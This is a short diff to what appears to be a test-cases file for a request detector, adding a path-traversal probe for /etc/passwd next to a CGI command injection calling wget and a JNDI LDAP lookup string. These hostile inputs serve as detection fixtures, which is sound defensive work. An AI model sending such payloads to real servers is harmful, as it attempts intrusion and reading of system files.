@@ -44,6 +44,7 @@ export const DOORS: Cases = new Map([
     {
       is: [
         [requested('/cgi-bin/x?a=;wget+http')],
+        [requested('/cgi-bin/.%2e/.%2e/etc/passwd')],
         [requested('/', '$' + '{jndi:ldap://192.0.2.1/a}')],
       ],
       isNot: [[requested('/search?q=shell')]],
